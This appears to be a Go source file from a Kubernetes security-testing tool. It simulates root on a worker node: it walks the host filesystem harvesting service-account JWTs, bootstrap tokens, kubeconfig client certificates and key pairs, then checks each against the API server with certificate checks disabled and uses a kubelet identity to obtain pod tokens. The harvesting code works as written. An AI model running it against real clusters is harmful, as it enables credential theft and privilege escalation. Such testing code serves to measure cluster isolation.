package attack

import (
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"io/fs"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"time"
)

// identity is an identity that root on a worker can have.
type identity struct {
	name   string
	token  string
	client *http.Client
	cert   *tls.Certificate
	// node is set for a kubelet's identity: the group of all nodes.
	node bool
}

// within bounds one request.
const within = 5 * time.Second

// newIdentity returns an identity whose client accepts any certificate of a
// server, because it has nothing to lose.
func newIdentity(name, token string, cert *tls.Certificate) identity {
	config := &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12}
	if cert != nil {
		config.Certificates = []tls.Certificate{*cert}
	}
	return identity{name: name, token: token, cert: cert, client: &http.Client{Timeout: within, Transport: &http.Transport{TLSClientConfig: config}}}
}

var (
	tokens    = regexp.MustCompile(`eyJ[A-Za-z0-9_-]+\.eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+`)
	bootstrap = regexp.MustCompile(`\b[a-z0-9]{6}\.[a-z0-9]{16}\b`)
	inlined   = regexp.MustCompile(`(client-certificate|client-key)-data: ([A-Za-z0-9+/=]+)`)
)

// mostOfFile is the size of the largest file that is read, in bytes.
const mostOfFile = 4 << 20

// search searches the files of the host, and requests the tokens of its pods
// with kubelet's certificate.
func (a *attacker) search(ctx context.Context) []identity {
	found := map[string]identity{}
	for _, root := range a.Roots {
		_ = filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() || !readable(path) {
				return nil //nolint:nilerr // what is gone meanwhile has no secret
			}
			data, err := os.ReadFile(path)
			if err != nil {
				return nil //nolint:nilerr // as above
			}
			maps.Copy(found, identitiesIn(path, data))
			return nil
		})
	}
	out := []identity{newIdentity("nobody", "", nil)}
	for _, who := range found {
		name := a.whoAmI(ctx, who)
		if name != "" {
			who.name, who.node = name, strings.HasPrefix(name, "system:node:")
		}
		out = append(out, who)
		a.note(ctx, Line{Name: "who am I", Who: who.name, To: a.ControlPlanes[0].Name, Expected: Open, Got: answered, Began: time.Now(), Detail: name})
	}
	for _, who := range out {
		if who.node {
			return append(out, a.tokensOfPods(ctx, who, out)...)
		}
	}
	return out
}

// readable reports whether a path leads to a regular file that is small enough.
// It follows links, because kubelet's certificate is behind one.
func readable(path string) bool {
	info, err := os.Stat(path)
	return err == nil && info.Mode().IsRegular() && info.Size() <= mostOfFile
}

// identitiesIn returns the identities in a file, by a key that distinguishes
// them.
func identitiesIn(path string, data []byte) map[string]identity {
	out := map[string]identity{}
	if pair, err := tls.X509KeyPair(data, data); err == nil {
		out[string(pair.Certificate[0])] = newIdentity(path, "", &pair)
	}
	if pair, ok := pairIn(data); ok {
		out[string(pair.Certificate[0])] = newIdentity(path, "", pair)
	}
	if key, err := os.ReadFile(strings.TrimSuffix(path, filepath.Ext(path)) + ".key"); err == nil && filepath.Ext(path) == ".crt" {
		if pair, err := tls.X509KeyPair(data, key); err == nil {
			out[string(pair.Certificate[0])] = newIdentity(path, "", &pair)
		}
	}
	for _, token := range tokens.FindAllString(string(data), -1) {
		name, key := claimed(path, token)
		out[key] = newIdentity(name, token, nil)
	}
	if strings.HasPrefix(path, "/etc/kubernetes") || strings.HasPrefix(path, "/etc/holdfast") {
		for _, token := range bootstrap.FindAllString(string(data), 3) {
			out[token] = newIdentity("bootstrap token "+token[:6], token, nil)
		}
	}
	return out
}

// pairIn returns the certificate in a kubeconfig.
func pairIn(data []byte) (*tls.Certificate, bool) {
	var text []byte
	for _, m := range inlined.FindAllSubmatch(data, -1) {
		part, err := base64.StdEncoding.DecodeString(string(m[2]))
		if err != nil {
			return nil, false
		}
		text = append(text, part...)
	}
	if block, _ := pem.Decode(text); block == nil {
		return nil, false
	}
	pair, err := tls.X509KeyPair(text, text)
	return &pair, err == nil
}

// claimed returns a name for a token from its own claims, and a key that
// distinguishes it from the tokens of other accounts.
func claimed(path, token string) (name, key string) {
	payload, err := base64.RawURLEncoding.DecodeString(strings.Split(token, ".")[1])
	var claims struct {
		Subject  string `json:"sub"`
		Audience any    `json:"aud"`
		Role     string `json:"role"`
	}
	if err != nil || json.Unmarshal(payload, &claims) != nil {
		return "token in " + path, token
	}
	audience, _ := json.Marshal(claims.Audience) // it was decoded from JSON
	name = strings.TrimSpace("token of " + claims.Subject + " " + claims.Role + " for " + string(audience))
	return name, name
}
